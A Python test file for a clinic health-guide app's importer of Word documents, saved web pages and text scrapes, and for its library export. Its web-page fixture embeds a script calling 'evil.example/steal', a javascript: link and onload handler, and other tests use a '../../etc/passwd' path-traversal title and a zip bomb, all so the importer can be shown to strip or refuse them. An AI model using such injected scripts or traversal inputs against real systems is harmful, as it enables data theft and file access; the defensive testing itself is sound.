"""Importing documents as draft articles (guide/core/importing/) and exporting a library.

Word documents are written here with python-docx; the saved web page is written here
too; the three plain-text scrapes in tests/fixtures/seeds are the copies of
shared/seeds that the bundled articles were hand-converted from.
"""

from __future__ import annotations

import datetime as dt
import os
import socket
import struct
import subprocess
import sys
import tracemalloc
import zipfile
import zlib
from pathlib import Path
from typing import Any

import docx
import pytest
import yaml
from docx.shared import Inches

from guide.core.content import load_library, split_front_matter
from guide.core.export import ExportFailed, export_library
from guide.core.importing import ImportFailed, convert, import_file
from guide.core.render import Renderer

SEEDS = Path(__file__).resolve().parents[1] / "fixtures" / "seeds"
MEDICAID = SEEDS / "000_a8caa8c30b4968e6.txt"
CBT = SEEDS / "001_43470f9f0f630144.txt"
CART = SEEDS / "002_6721f74cac1a559b.txt"


def png_bytes(width: int = 4, height: int = 3) -> bytes:
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x00\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"  # noqa: E501


def read_article(path: Path) -> tuple[dict[str, Any], str]:
    parsed = split_front_matter(path, path.read_text(encoding="utf-8"))
    assert not parsed.problems, parsed.problems
    return parsed.meta, parsed.body


def check(root: Path) -> list[tuple[str, str]]:
    """(severity, message) of everything ``guide check`` reports for the root."""
    library = load_library([root])
    problems = list(library.problems)
    renderer = Renderer(library)
    for article in library.articles():
        problems.extend(renderer.check(article))
    return [(p.severity, p.message) for p in problems]


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Python's ways onto the network refuse and are recorded (as in tests/robustness/test_no_network.py)."""
    attempts: list[str] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(repr(args[:2]))
        raise OSError("a test tried to use the network")

    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    return attempts


# -- Word documents ---------------------------------------------------------------------------


def write_docx(path: Path, *, title: str | None = "After your knee operation", picture: bytes | None = None) -> Path:
    document = docx.Document()
    if title is not None:
        document.core_properties.title = title
    document.core_properties.author = "Hillside Clinic"
    document.core_properties.modified = dt.datetime(2025, 3, 4, 10, 0)
    document.add_heading("After your knee operation", 0)
    document.add_paragraph("Read this at home in the first week after your operation.")
    document.add_heading("Pain relief", 1)
    document.add_paragraph("Take paracetamol every 6 hours.", style="List Bullet")
    document.add_paragraph("Use an ice pack for 20 minutes.", style="List Bullet")
    document.add_heading("Exercises", 2)
    document.add_paragraph("Straighten your leg.", style="List Number")
    document.add_paragraph("Bend your knee slowly.", style="List Number")
    table = document.add_table(rows=3, cols=2)
    for r, row in enumerate([("Day", "What to do"), ("1-3", "Rest"), ("4-7", "Short walks")]):
        for c, value in enumerate(row):
            table.cell(r, c).text = value
    image = path.parent / "picture.bin"
    image.write_bytes(picture if picture is not None else png_bytes())
    document.add_picture(str(image), width=Inches(1))
    image.unlink()
    paragraph = document.add_paragraph("Call us on ")
    paragraph.add_run("0123 456 789").bold = True
    document.save(str(path))
    return path


def test_a_word_document_keeps_headings_lists_the_table_and_the_image(tmp_path: Path) -> None:
    source = write_docx(tmp_path / "knee.docx")
    library = tmp_path / "clinic"
    result = import_file(source, library)

    assert result.path == library / "after-your-knee-operation.md"
    assert result.article_id == "after-your-knee-operation"
    meta, body = read_article(result.path)
    assert meta["title"] == "After your knee operation"
    assert meta["imported_from"] == "knee.docx"
    assert meta["source_date"] == "2025-03-04"
    assert meta["summary"] == "Read this at home in the first week after your operation."  # the lead
    assert meta["reviewed"] is None
    assert "Hillside Clinic" in meta["sources"][0]
    assert "# After your knee operation" not in body  # the reader shows the title itself
    assert "## Pain relief" in body and "### Exercises" in body
    assert "- Take paracetamol every 6 hours." in body
    assert "1. Straighten your leg.\n2. Bend your knee slowly." in body
    assert "| Day | What to do |" in body and "| 4-7 | Short walks |" in body
    assert "**0123 456 789**" in body
    images = list((library / "images").iterdir())
    assert [p.name for p in images] == ["after-your-knee-operation-1.png"]
    assert images[0].read_bytes() == png_bytes()
    assert "](images/after-your-knee-operation-1.png)" in body
    assert check(library) == [("warning", check_warning())]


def check_warning() -> str:
    return "imported draft not reviewed yet: check it against its source, then fill in 'reviewed' (YYYY-MM-DD)"


def test_a_reviewed_import_no_longer_warns(tmp_path: Path) -> None:
    result = import_file(write_docx(tmp_path / "knee.docx"), tmp_path / "clinic")
    text = result.path.read_text(encoding="utf-8")
    result.path.write_text(text.replace("reviewed:     #", "reviewed: 2025-06-01  #"), encoding="utf-8")
    assert check(tmp_path / "clinic") == []


def test_without_a_title_property_the_first_heading_is_the_title(tmp_path: Path) -> None:
    draft = convert(write_docx(tmp_path / "Knee_v2 final.docx", title=None))
    assert draft.title == "After your knee operation"


def test_a_picture_in_a_format_the_reader_cannot_show_is_left_out_with_a_warning(tmp_path: Path) -> None:
    result = import_file(write_docx(tmp_path / "knee.docx", picture=GIF), tmp_path / "clinic")
    _, body = read_article(result.path)
    assert "![" not in body
    assert not (tmp_path / "clinic" / "images").exists()
    assert any("image(s) left out" in w for w in result.warnings)


def test_importing_twice_never_overwrites(tmp_path: Path) -> None:
    source = write_docx(tmp_path / "knee.docx")
    first = import_file(source, tmp_path / "clinic")
    first.path.write_text(first.path.read_text(encoding="utf-8") + "\nThe nurse's own note.\n", encoding="utf-8")
    second = import_file(source, tmp_path / "clinic")
    assert second.path.name == "after-your-knee-operation-2.md"
    assert "The nurse's own note." in first.path.read_text(encoding="utf-8")
    _, body = read_article(second.path)
    assert "](images/after-your-knee-operation-2-1.png)" in body
    assert (tmp_path / "clinic" / "images" / "after-your-knee-operation-1.png").read_bytes() == png_bytes()


# -- saved web pages --------------------------------------------------------------------------

PAGE = """<!DOCTYPE html><html lang="en"><head><title>Flu vaccine days | Hillside Clinic</title>
<meta name="description" content="When and where to get your flu vaccine this autumn.">
<meta property="article:published_time" content="2025-09-14">
<link rel="canonical" href="https://hillside.example/flu">
<link rel="stylesheet" href="https://cdn.example/site.css">
<script src="https://cdn.example/tracker.js"></script>
<script>document.title = 'HACKED'; fetch('https://evil.example/steal');</script>
</head><body onload="alert('x')">
<nav><ul><li><a href="/">Home</a></li><li><a href="/services">Our services</a></li>
<li><a href="/contact">Contact us</a></li></ul></nav>
<div class="cookie-banner">We use cookies to improve your experience. <button>Accept all cookies</button></div>
<main><article>
<h1>Flu vaccine days</h1>
<div class="social-share"><a href="https://facebook.com/sharer">Facebook</a>
<a href="https://twitter.com/intent/tweet">Twitter</a> <a href="#">Share this page</a></div>
<p>The flu vaccine is free for everyone over 65, pregnant women and people with long-term conditions.
It takes about two weeks to start working, so come early in the season.</p>
<h2>When to come</h2>
<p>We hold vaccine clinics every Tuesday and Thursday morning in October and November.
You do not need to book an appointment beforehand.</p>
<ul><li>Tuesday 8:00 to 12:00</li><li>Thursday 8:00 to 12:00</li></ul>
<img src="https://tracker.example/pixel.png" alt="tracking pixel">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline picture">
<img src="Flu_files/nurse.png" alt="A nurse giving a vaccine">
<img src="../outside.png" alt="outside the page folder">
<h2>What to bring</h2>
<ol><li>Your clinic card</li><li>A list of your medicines</li></ol>
<table><tr><th>Group</th><th>Cost</th></tr><tr><td>Over 65</td><td>Free</td></tr>
<tr><td>Children</td><td>Free</td></tr></table>
<iframe src="https://video.example/embed/flu"></iframe>
<p>If you have a fever on the day, please come another week instead. Tell the nurse if you have
had an allergic reaction to a vaccine before. <a href="javascript:alert(1)">Click here</a> or
<a href="https://www.nhs.uk/vaccinations/flu-vaccine/">read more about the vaccine</a>.</p>
</article></main>
<aside class="newsletter"><h3>Subscribe to our newsletter</h3>
<p>Sign up to get update information, news and free insight.</p>
<form action="https://hillside.example/subscribe"><input type="email"><button>Subscribe</button></form></aside>
<footer><p>© 2025 Hillside Clinic. All rights reserved.</p><a href="/privacy">Privacy policy</a></footer>
</body></html>
"""


def write_page(folder: Path) -> Path:
    (folder / "page" / "Flu_files").mkdir(parents=True)
    (folder / "page" / "Flu_files" / "nurse.png").write_bytes(png_bytes(5, 5))
    (folder / "outside.png").write_bytes(png_bytes(6, 6))
    page = folder / "page" / "Flu.html"
    page.write_text(PAGE, encoding="utf-8")
    return page


def test_a_saved_web_page_keeps_its_article_and_loses_the_page_around_it(tmp_path: Path, no_network: list[str]) -> None:
    result = import_file(write_page(tmp_path), tmp_path / "clinic", topic="vaccines")

    assert result.path == tmp_path / "clinic" / "vaccines" / "flu-vaccine-days.md"
    meta, body = read_article(result.path)
    assert meta["title"] == "Flu vaccine days"
    assert meta["summary"] == "When and where to get your flu vaccine this autumn."
    assert meta["source_date"] == "2025-09-14"
    assert "https://hillside.example/flu" in meta["sources"][0]
    assert "## When to come" in body and "## What to bring" in body
    assert "1. Your clinic card\n2. A list of your medicines" in body
    assert "| Over 65 | Free |" in body
    assert "[read more about the vaccine](https://www.nhs.uk/vaccinations/flu-vaccine/)" in body
    for noise in ("Home", "Our services", "cookies", "Facebook", "Twitter", "Share this", "newsletter",
                  "Subscribe", "All rights reserved", "Privacy", "HACKED", "evil.example", "tracker",
                  "javascript", "iframe", "video.example", "<script", "onload", "data:image", "outside"):  # fmt: skip
        assert noise.lower() not in body.lower(), noise
    assert "Click here" in body  # the text of a script link stays, the script does not
    saved = sorted(p.name for p in (tmp_path / "clinic" / "vaccines" / "images").iterdir())
    assert saved == ["flu-vaccine-days-1.png"]
    assert "![A nurse giving a vaccine](images/flu-vaccine-days-1.png)" in body
    assert any("left out" in w for w in result.warnings)
    assert no_network == []
    assert [s for s, _ in check(tmp_path / "clinic")] == ["warning"]


def test_a_page_with_no_article_text_says_so(tmp_path: Path) -> None:
    page = tmp_path / "empty.html"
    page.write_text("<html><body><nav><a href='/'>Home</a></nav><script>x()</script></body></html>")
    with pytest.raises(ImportFailed, match=r"empty\.html: no article text"):
        convert(page)


# -- the plain-text scrapes in shared/seeds -----------------------------------------------------

SEED_CASES = [
    (
        MEDICAID,
        "Does Medicaid cover therapy services in 2025?",
        ["## Eligibility requirements for Medicaid therapy services", "## Physical therapy benefits",
         "## Frequently asked questions", "### Can I switch therapy providers during ongoing treatment?"],
        "| Therapy Type | Conditions Covered | Key Features |",
    ),
    (
        CBT,
        "What principle underlies cognitive behavioral therapy?",
        ["## Core beliefs and their impact on mental health", "## Why now matters"],
        "| Alliance Component | Alliance Building Techniques |",
    ),
    (
        CART,
        "What happens if CAR T cell therapy fails",
        ["## Causes of CAR T cell therapy failure", "### Tumor antigen escape",
         "### What happens if CAR T cell therapy fails to treat cancer?"],
        None,
    ),
]  # fmt: skip


@pytest.mark.parametrize(("source", "title", "headings", "table"), SEED_CASES, ids=["medicaid", "cbt", "car-t"])
def test_a_scraped_text_becomes_a_clean_article(
    tmp_path: Path, source: Path, title: str, headings: list[str], table: str | None
) -> None:
    result = import_file(source, tmp_path / "clinic")
    meta, body = read_article(result.path)
    assert meta["title"] == title
    assert result.title == title
    lines = {line.strip().casefold() for line in body.splitlines()}
    for share in ("facebook", "twitter", "linkedin", "share"):
        assert share not in lines
    for noise in ("Subscribe To Our Newsletter", "Sign up our newsletter", "IMG_", ".jpg", "Medically Reviewed By",
                  "distinguished physician", "Find other PDF articles", "Back to Home", "\\underline",
                  "medicaid therapy coverage details", "car t cell therapy challenges", "TypeConditions"):  # fmt: skip
        assert noise.casefold() not in body.casefold(), noise
    for heading in headings:
        assert heading in body.splitlines(), heading
    assert body.count(f"\n{title}\n") == 0  # the title is not repeated in the text
    if table:
        assert table in body
    assert [s for s, _ in check(tmp_path / "clinic")] == ["warning"]


def test_the_scrape_reports_what_it_removed_and_what_to_check(tmp_path: Path) -> None:
    draft = convert(MEDICAID)
    assert draft.front_matter["summary"].startswith("Yes, Medicaid will cover therapy services in 2025,")
    assert "summary" not in convert(CART).front_matter  # its lead starts mid-sentence: no summary offered
    warnings = draft.warnings
    assert any("share-button lines" in w and "newsletter" in w for w in warnings)
    assert any("reviewed by Dr Courtney Scott, MD" in w for w in warnings)
    assert any("more than one article" in w for w in warnings)  # a second article is glued to its end


def test_a_section_list_is_dropped_but_its_sections_stay(tmp_path: Path) -> None:
    body = convert(CART).body
    assert "- Causes of CAR T Cell Therapy Failure" not in body
    assert body.count("## Causes of CAR T cell therapy failure") == 1
    assert "supportive care focuses on symptom\nmanagement and quality of life" in body  # one paragraph again


def test_a_markdown_file_keeps_its_front_matter_but_not_its_review(tmp_path: Path) -> None:
    source = tmp_path / "hours.md"
    source.write_text("---\ntitle: Opening hours\ntags: [clinic]\nreviewed: 2020-01-01\n---\n## Weekdays\n\n8 to 5.\n")
    draft = convert(source)
    assert draft.front_matter["tags"] == ["clinic"] and "reviewed" not in draft.front_matter
    assert draft.body == "## Weekdays\n\n8 to 5.\n"
    assert any("2020-01-01" in w for w in draft.warnings)


# -- bad input ----------------------------------------------------------------------------------


def test_a_docx_that_is_not_a_zip(tmp_path: Path) -> None:
    source = tmp_path / "handout.docx"
    source.write_text("Just some text saved with the wrong name.")
    with pytest.raises(ImportFailed, match=r"handout\.docx: not a Word document: it is not a zip file"):
        convert(source)


def test_a_damaged_docx(tmp_path: Path) -> None:
    good = write_docx(tmp_path / "good.docx").read_bytes()
    cut = tmp_path / "cut short.docx"
    cut.write_bytes(good[: len(good) // 2])
    with pytest.raises(ImportFailed, match=r"cut short\.docx: the Word document is damaged"):
        convert(cut)
    broken = tmp_path / "broken.docx"
    with zipfile.ZipFile(tmp_path / "good.docx") as src, zipfile.ZipFile(broken, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            dst.writestr(item, data[:200] if item.filename == "word/document.xml" else data)
    with pytest.raises(ImportFailed, match=r"broken\.docx: the Word document (is damaged|cannot be read)"):
        convert(broken)
    sheet = tmp_path / "sheet.docx"
    with zipfile.ZipFile(sheet, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    with pytest.raises(ImportFailed, match=r"sheet\.docx: this is an Excel workbook, not a Word document"):
        convert(sheet)


def ole_file(*streams: str) -> bytes:
    """The start of an OLE compound file whose directory names the given streams (UTF-16)."""
    directory = b"".join(name.encode("utf-16-le").ljust(128, b"\x00") for name in ("Root Entry", *streams))
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + directory + b"\x00" * 2048


def test_a_password_protected_document(tmp_path: Path) -> None:
    source = tmp_path / "locked.docx"
    source.write_bytes(ole_file("EncryptionInfo", "EncryptedPackage"))
    with pytest.raises(ImportFailed, match=r"locked\.docx: the document is protected with a password"):
        convert(source)


def test_an_old_word_document(tmp_path: Path) -> None:
    named_docx = tmp_path / "old.docx"
    named_docx.write_bytes(ole_file("WordDocument", "1Table"))
    with pytest.raises(ImportFailed, match=r"old\.docx: this is an old Word 97-2003 document"):
        convert(named_docx)
    with pytest.raises(ImportFailed, match=r"old\.doc: a Word 97-2003 document cannot be imported; .* \(\.docx\)"):
        convert(tmp_path / "old.doc")


def test_a_50_mb_text_file_is_refused_without_reading_it(tmp_path: Path) -> None:
    source = tmp_path / "huge.txt"
    with open(source, "wb") as handle:
        handle.truncate(50_000_000)
    with pytest.raises(ImportFailed, match=r"huge\.txt: the text file is 50 MB; the largest .* is 10 MB"):
        convert(source)


def test_a_50_mb_word_document_of_photos_imports_without_holding_it_in_memory(tmp_path: Path) -> None:
    source = write_docx(tmp_path / "photos.docx")
    with zipfile.ZipFile(source, "a") as archive:  # a 50 MB photo, stored (photos do not compress)
        archive.writestr(zipfile.ZipInfo("word/media/huge.png"), png_bytes() + os.urandom(50_000_000))
    assert source.stat().st_size > 50_000_000
    tracemalloc.start()
    try:
        result = import_file(source, tmp_path / "clinic")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert result.path.is_file()
    assert peak < 40_000_000  # the unused 50 MB photo is never read whole


def test_a_word_document_with_too_much_text_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "endless.docx"
    with zipfile.ZipFile(source, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<w:document>" + b" " * 70_000_000 + b"</w:document>")
    assert source.stat().st_size < 1_000_000  # a zip bomb: small on disk, huge unpacked
    with pytest.raises(ImportFailed, match=r"endless\.docx: the document's text is 70 MB unpacked"):
        convert(source)


def test_odd_file_names(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    texts = {
        "my handout (final) v2.txt": "Aftercare\n\nKeep the wound dry for two days after the procedure.\n",
        "Ärztliche Hinweise – 日本.txt": "Hinweise für Patienten\n\nBitte bringen Sie Ihre Karte mit.\n",
        "escape.txt": "../../etc/passwd\n\nA title that looks like a path is only a title.\n",
        "long.txt": ("Very long title " * 40).strip() + "\n\nBody text of the long one.\n",
    }
    results = []
    for name, text in texts.items():
        (folder / name).write_text(text, encoding="utf-8")
        results.append(import_file(folder / name, tmp_path / "clinic"))
    names = [r.path.name for r in results]
    assert names[0] == "aftercare.md"
    assert names[1] == "hinweise-für-patienten.md"
    assert names[2] == "etc-passwd.md"
    assert len(names[3].encode()) <= 130
    for result in results:
        assert result.path.parent == tmp_path / "clinic"
    assert [s for s, _ in check(tmp_path / "clinic")] == ["warning"] * 4
    with pytest.raises(ImportFailed, match=r"without '\.\.'"):
        import_file(folder / "escape.txt", tmp_path / "clinic", topic="../outside")
    assert not (tmp_path / "outside").exists()


def test_a_library_that_cannot_be_written_loses_nothing(tmp_path: Path) -> None:
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where the library should be")
    with pytest.raises(ImportFailed, match=r"knee\.docx: cannot write the article"):
        import_file(write_docx(tmp_path / "knee.docx"), blocker)
    assert blocker.read_text() == "a file where the library should be"


def test_an_unknown_kind_of_file(tmp_path: Path) -> None:
    with pytest.raises(ImportFailed, match=r"scan\.pdf: a PDF cannot be imported"):
        convert(tmp_path / "scan.pdf")
    with pytest.raises(ImportFailed, match=r"photo\.png: not a kind of file the guide imports"):
        convert(tmp_path / "photo.png")
    with pytest.raises(ImportFailed, match=r"missing\.txt: no such file"):
        convert(tmp_path / "missing.txt")


# -- command line and export ------------------------------------------------------------------


def run_guide(*args: str) -> subprocess.CompletedProcess[str]:
    code = (
        "import sys; from guide.cli import main; rc = main(sys.argv[1:]); "
        "assert 'PySide6' not in sys.modules, 'Qt was loaded'; sys.exit(rc)"
    )
    return subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True, timeout=120)


def test_guide_import_prints_each_article_and_one_line_per_failure(tmp_path: Path) -> None:
    good = write_docx(tmp_path / "knee.docx")
    bad = tmp_path / "bad.docx"
    bad.write_text("not a zip")
    done = run_guide(
        "import", str(good), str(bad), str(CART), "--into", str(tmp_path / "clinic"), "--topic", "aftercare"
    )
    assert done.returncode == 1
    written = done.stdout.splitlines()
    assert written == [str(tmp_path / "clinic" / "aftercare" / n) for n in
                       ("after-your-knee-operation.md", "what-happens-if-car-t-cell-therapy-fails.md")]  # fmt: skip
    failures = [line for line in done.stderr.splitlines() if line.startswith("guide import:")]
    assert failures == [
        f"guide import: {bad}: not a Word document: it is not a zip file (it may be damaged or only partly copied)"
    ]
    assert "Traceback" not in done.stderr


def test_guide_export_writes_a_zip_of_the_library(tmp_path: Path) -> None:
    library = tmp_path / "clinic-articles"
    import_file(write_docx(tmp_path / "knee.docx"), library, topic="aftercare")
    (library / ".hidden-draft.md").write_text("x")
    out = tmp_path / "share" / "clinic.zip"
    done = run_guide("export", str(library), "-o", str(out))
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith(f"{out}: 1 article, 2 files")
    with zipfile.ZipFile(out) as archive:
        names = sorted(archive.namelist())
        assert names == ["clinic-articles/aftercare/after-your-knee-operation.md",
                         "clinic-articles/aftercare/images/after-your-knee-operation-1.png"]  # fmt: skip
        meta = yaml.safe_load(archive.read(names[0]).decode().split("---")[1])
    assert meta["title"] == "After your knee operation"


def test_export_of_a_missing_or_empty_folder_says_so(tmp_path: Path) -> None:
    with pytest.raises(ExportFailed, match="no such folder"):
        export_library(tmp_path / "nothing", tmp_path / "out.zip")
    (tmp_path / "empty").mkdir()
    with pytest.raises(ExportFailed, match="no articles"):
        export_library(tmp_path / "empty", tmp_path / "out.zip")
    assert not (tmp_path / "out.zip").exists()
    done = run_guide("export", str(tmp_path / "empty"), "-o", str(tmp_path / "out.zip"))
    assert done.returncode == 1 and done.stderr.startswith("guide export: ")


def test_the_web_page_importer_never_loads_dateparser(tmp_path: Path) -> None:
    """build.spec leaves dateparser, pytz and babel's data out of the frozen app; dates come from markup."""
    page = write_page(tmp_path)
    page.write_text(PAGE.replace("2025-09-14", "").replace("<h2>When", "<p>Published on 14 September 2025</p><h2>When"))
    code = (
        "import sys; from pathlib import Path; from guide.core.importing import convert; "
        f"convert(Path({str(page)!r})); import babel.core; "
        "assert not {'dateparser', 'pytz', 'tzlocal'} & set(sys.modules), 'a date parser was loaded'; "
        "assert babel.core._global_data is None, 'babel read its locale data'"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr


def test_a_typed_handout_keeps_everything_it_says(tmp_path: Path) -> None:
    source = tmp_path / "vaccines.txt"
    source.write_text(
        "Vaccination days at Hillside\n\n"
        "We vaccinate children and adults every week. Bring your vaccination card.\n\n"
        "Opening Hours\n\n"
        "• Tuesday 8:00 to 12:00\n• Thursday 14:00 to 17:00\n\n"
        "What to bring?\n\n"
        "Your card and a list of medicines. Call 0123 456 789 if you cannot come.\n",
        encoding="utf-8",
    )
    draft = convert(source)
    assert draft.title == "Vaccination days at Hillside"
    assert draft.body == (
        "We vaccinate children and adults every week. Bring your vaccination card.\n\n"
        "## Opening hours\n\n"
        "- Tuesday 8:00 to 12:00\n- Thursday 14:00 to 17:00\n\n"
        "## What to bring?\n\n"
        "Your card and a list of medicines. Call 0123 456 789 if you cannot come.\n"
    )
    assert draft.warnings == ()


def test_a_picture_linked_to_the_web_is_not_fetched(tmp_path: Path, no_network: list[str]) -> None:
    source = write_docx(tmp_path / "linked.docx")
    linked = tmp_path / "linked-web.docx"
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(linked, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "word/_rels/document.xml.rels":
                text = data.decode()
                start = text.index('Target="media/')
                end = text.index('"', start + 8)
                text = text[:start] + 'Target="http://tracker.example/x.png" TargetMode="External"' + text[end + 1 :]
                data = text.encode()
            elif item.filename == "word/document.xml":
                data = data.replace(b"r:embed=", b"r:link=")
            dst.writestr(item, data)
    result = import_file(linked, tmp_path / "clinic")
    _, body = read_article(result.path)
    assert "![" not in body and "tracker" not in body
    assert any("left out" in w for w in result.warnings)
    assert no_network == []


def test_importing_a_web_page_makes_no_internet_socket_at_all(tmp_path: Path) -> None:
    """Not even the IPv6 probe urllib3 (imported by trafilatura for its unused downloader) runs at import."""
    page = write_page(tmp_path)
    code = (
        "import socket, sys; from pathlib import Path; made = []; Real = socket.socket\n"
        "class Recorder(Real):\n"
        "    def __init__(self, family=-1, *args, **kwargs):\n"
        "        made.append(family); super().__init__(family, *args, **kwargs)\n"
        "socket.socket = Recorder\n"
        "from guide.core.importing import convert\n"
        f"convert(Path({str(page)!r}))\n"
        "assert 'trafilatura' in sys.modules\n"
        "internet = [f for f in made if f in (-1, socket.AF_INET, socket.AF_INET6)]\n"
        "assert not internet, internet\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr


def test_a_markdown_file_brings_its_pictures(tmp_path: Path) -> None:
    folder = tmp_path / "notes"
    (folder / "pics").mkdir(parents=True)
    (folder / "pics" / "map.png").write_bytes(png_bytes(7, 7))
    source = folder / "directions.md"
    source.write_text("# How to find us\n\n![Map to the clinic](pics/map.png)\n\n![logo](https://example.org/l.png)\n")
    result = import_file(source, tmp_path / "clinic")
    _, body = read_article(result.path)
    assert "![Map to the clinic](images/how-to-find-us-1.png)" in body
    assert (tmp_path / "clinic" / "images" / "how-to-find-us-1.png").read_bytes() == png_bytes(7, 7)
    assert any("on the web" in w for w in result.warnings)


def test_a_leftover_word_title_property_is_not_the_title(tmp_path: Path) -> None:
    draft = convert(write_docx(tmp_path / "knee.docx", title="Microsoft Word - knee_final.doc"))
    assert draft.title == "After your knee operation"


def test_a_folder_without_hard_links_still_never_overwrites(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """FAT on a USB stick and some network shares refuse hard links: the name is reserved instead."""
    import errno

    def no_links(src: object, dst: object) -> None:
        raise OSError(errno.EPERM, "Operation not permitted")

    monkeypatch.setattr(os, "link", no_links)
    source = write_docx(tmp_path / "knee.docx")
    first = import_file(source, tmp_path / "clinic")
    first.path.write_text(first.path.read_text(encoding="utf-8") + "\nKept.\n", encoding="utf-8")
    second = import_file(source, tmp_path / "clinic")
    assert (first.path.name, second.path.name) == ("after-your-knee-operation.md", "after-your-knee-operation-2.md")
    assert first.path.read_text(encoding="utf-8").endswith("Kept.\n")
    assert read_article(second.path)[0]["title"] == "After your knee operation"
    assert not [p for p in (tmp_path / "clinic").rglob("*") if p.name.endswith(".tmp")]
